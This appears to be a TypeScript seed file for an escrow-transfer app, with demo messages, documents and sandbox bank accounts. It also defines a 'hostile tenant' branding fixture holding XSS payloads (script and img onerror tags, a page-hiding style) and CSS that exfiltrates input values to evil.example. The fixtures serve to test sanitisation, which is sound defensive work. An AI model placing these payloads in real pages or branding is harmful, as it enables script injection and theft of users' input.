  const createdAt = ago(days, hours);
  // messageURL and the PDF are filled in at start-up (db/seed-notice-pdfs.ts): rendering needs the providers.
  return {
    id,
    ...owner,
    type,
    transferId,
    label: MESSAGE_LABELS[type],
    messageURL: null,
    createdAt,
    updatedAt: createdAt,
  };
}

const MESSAGE_LABELS: Record<(typeof clientMessage.$inferInsert)['type'], string> = {
  transfer_fail: 'Transfer failed',
  transfer_initiated: 'Transfer initiated',
  transfer_receipt: 'Transfer receipt',
  transfer_request: 'Transfer request',
};

const msg = (n: number) => `80000000-0000-4000-8000-${String(n).padStart(12, '0')}`;

/** Every message type, spread over the last 30 days (four of Dana's in the default last-7-days range, 15 in all). */
export const demoMessages: Row<typeof clientMessage>[] = [
  message(msg(1), dana, 'transfer_initiated', IDS.transfers.pending, 0, 1),
  message(msg(2), dana, 'transfer_request', IDS.transfers.requested, 3),
  message(msg(3), dana, 'transfer_initiated', IDS.transfers.submitted, 4),
  message(msg(4), dana, 'transfer_request', IDS.transfers.viewed, 6),
  message(msg(5), dana, 'transfer_initiated', IDS.transfers.completed, 10, 1),
  message(msg(6), dana, 'transfer_receipt', IDS.transfers.completed, 9),
  message(msg(7), dana, 'transfer_fail', IDS.transfers.error, 17),
  message(msg(8), dana, 'transfer_initiated', IDS.transfers.cancelled, 14),
  message(msg(9), dana, 'transfer_receipt', IDS.transfers.completed, 28),
  // Older ones, so Dana's list runs past one page (10) once the date filter is cleared.
  message(msg(31), dana, 'transfer_request', IDS.transfers.requested, 20),
  message(msg(32), dana, 'transfer_initiated', IDS.transfers.submitted, 21),
  message(msg(33), dana, 'transfer_fail', IDS.transfers.error, 22),
  message(msg(34), dana, 'transfer_initiated', IDS.transfers.completed, 24),
  message(msg(35), dana, 'transfer_request', IDS.transfers.viewed, 26),
  message(msg(36), dana, 'transfer_initiated', IDS.transfers.pending, 29),
  message(msg(11), ivy, 'transfer_request', IDS.transfers.ivyInitiated, 0, 6),
  message(msg(21), alex, 'transfer_initiated', IDS.transfers.alexCompleted, 9),
  message(msg(22), alex, 'transfer_receipt', IDS.transfers.alexCompleted, 8),
];

export const demoDocuments: Row<typeof clientDocument>[] = [
  {
    id: '90000000-0000-4000-8000-000000000001',
    ...dana,
    transferId: IDS.transfers.completed,
    type: 'receipt',
    description: 'Receipt for the transfer to Demo Title & Escrow',
    status: 'completed',
  },
  {
    id: '90000000-0000-4000-8000-000000000002',
    ...dana,
    transferId: IDS.transfers.requested,
    type: 'escrow agreement',
    description: 'Escrow agreement for 300 Cedar Lane',
    status: 'pending',
  },
  {
    id: '90000000-0000-4000-8000-000000000011',
    ...alex,
    transferId: IDS.transfers.alexCompleted,
    type: 'receipt',
    description: 'Receipt for the transfer to Acme Escrow Co.',
    status: 'Completed',
  },
];

/** Test-only tenant whose branding attacks the shell; see seed({ testFixtures: true }). */
export const hostileTenant: Row<typeof tenant> = {
  id: IDS.tenants.hostile,
  name: 'Hostile Test Tenant',
  identifier: 'hostile',
  routingType: 'other',
  supportEmail: 'support@hostile.example',
  pocPhone: '(555) 010-9999',
  enabledModules: [...MODULES],
};

export const HOSTILE_HEADER =
  '<img src="x" onerror="window.__xss=\'img\'"><script>window.__xss=\'script\'</script><p>Hostile header</p>';
export const HOSTILE_CSS =
  '@import url(https://evil.example/leak.css); input[value^="a"] { background: url(https://evil.example/a) }';

export const hostileBranding: Row<typeof branding> = {
  id: IDS.brandings.hostile,
  tenantId: IDS.tenants.hostile,
  active: true,
  description: 'Hostile branding (test fixture)',
  header: HOSTILE_HEADER,
  footer:
    '<p style="position:fixed;inset:0" onclick="window.__xss=\'footer\'">Hostile footer</p><style>body{display:none}</style>',
  customCSS: HOSTILE_CSS,
  fontFamily: 'Poppins',
  buttonColor: '#333333',
};

/** The seeded client accounts as the bank-linking sandbox knows them (already linked items). */
/** A seeded client account as the bank-linking sandbox knows it (its item, balance, recipient). */
export function seededLinkAccount(
  row: Row<typeof bankAccount>,
  owners: readonly Row<typeof client>[],
): SandboxSeededAccount {
  const ids = sandboxLinkIds(row.id!);
  const owner = owners.find((candidate) => candidate.id === row.clientId);
  return {
    ...ids,
    institutionId: row.institutionCode!,
    name: row.name!,
    mask: row.accountLastFourDigits!,
    subtype: row.accountSubtype === 'savings' ? 'savings' : 'checking',
    balanceCents: row.balanceCents ?? null,
    pendingVerification: row.pendingVerification ?? false,
    recipient: owner?.email ?? owner?.mobilePhone ?? null,
  };
}

export const sandboxSeededLinkAccounts: SandboxSeededAccount[] = demoBankAccounts.map((row) =>
  seededLinkAccount(row, demoClients),
);
